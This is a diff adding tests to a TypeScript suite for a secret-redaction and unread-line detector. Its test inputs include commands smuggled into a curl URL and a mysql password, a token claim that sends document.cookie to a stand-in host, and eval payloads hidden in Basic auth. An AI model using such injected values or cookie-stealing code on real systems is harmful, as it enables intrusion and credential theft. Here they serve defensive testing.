@@ -70,6 +70,54 @@ describe("GH-11a: what a reader is not shown is not looked at", () => {
     expect(show("a.yml", [`a: ${name}`]).unread.lines).toEqual([]);
   });
 
+  it("a name behind a string that has ended, and not a value within one", () => {
+    const name = fill("gh|p_{w36}");
+    const outside = [
+      `const r = "user"; if (r === ${name}) ok();`,
+      `/* a */ run(x, ${name});`,
+      `f("a\\"", '"', ${name});`,
+    ];
+    expect(show("a.ts", outside).unread.lines).toEqual([1, 2, 3]);
+    const within = [`f("a", "${name}");`, `const a = 'it\\'s ${name}';`, `f(); // it's ${name}`];
+    expect(show("a.ts", within).unread.lines).toEqual([]);
+  });
+
+  it("commands and expressions in what looks like a password; not the name of one", () => {
+    const shell = [
+      "curl -s https://ci:$TOKEN|run$IFS-x|true$IFS@shop.internal/health",
+      "mysql -u root -pa1b2c3;reboot;x1",
+    ];
+    expect(show("deploy.sh", shell).text).not.toContain("reboot");
+    expect(show("deploy.sh", shell).unread.lines).toEqual([1, 2]);
+    expect(show("a.py", ['f"https://shop.internal/a?password={user.set(1)}"']).unread.lines).toEqual([1]);
+    const names = show("a.py", ['f"https://shop.internal/a?api_key={API_KEY}"', 'f"postgres://a:{pw}@h/b"']);
+    expect(names).toMatchObject({ text: expect.stringContaining("{API_KEY}"), unread: { lines: [] } });
+    expect(show("a.yml", ["url: postgres://user:$DB_PASS@host/db"]).unread.lines).toEqual([]);
+  });
+
+  it("code within a token, and not its claims", () => {
+    const token = (...parts: readonly string[]) =>
+      ['{"alg":"HS256"}', ...parts].map((part) => Buffer.from(part).toString("base64url")).join(".");
+    const signature = "dBjftJeZ4CVP_mB92K27uhbUJU1p1r";
+    const user = { sub: "1234567890", name: "Ana B.", aud: ["https://shop.internal/a"] };
+    const line = (text: string) => `const t = "${text}";`;
+    const lines = [
+      line(`${token('{"x":"fetch(`//e`+document.cookie)"}')}.${signature}`),
+      line(token('{"sub":"1234567890"}', "user.admin=true;save(user)")),
+      line(`Basic ${Buffer.from("user:eval(x);y=2;process.exit(3)").toString("base64")}`),
+      line(`${token(JSON.stringify(user))}.${signature}`),
+    ];
+    const { text, unread } = show("a.ts", lines);
+    expect(text.match(/\[redacted\]/g)).toHaveLength(4);
+    expect(unread.lines).toEqual([1, 2, 3]);
+  });
+
+  it("a text is no page: what stands in its comments is shown", () => {
+    const { text, unread } = show("CMakeLists.txt", ['set(A "<!--") run() set(B "-->")']);
+    expect(text).toContain("run()");
+    expect(unread.lines).toEqual([]);
+  });
+
   it("only what the change adds", () => {
     const before = [BEGIN, ...key(2), END, "old"];
     expect(show("a.ts", [...before.slice(0, -1), "new"], before).unread.lines).toEqual([]);
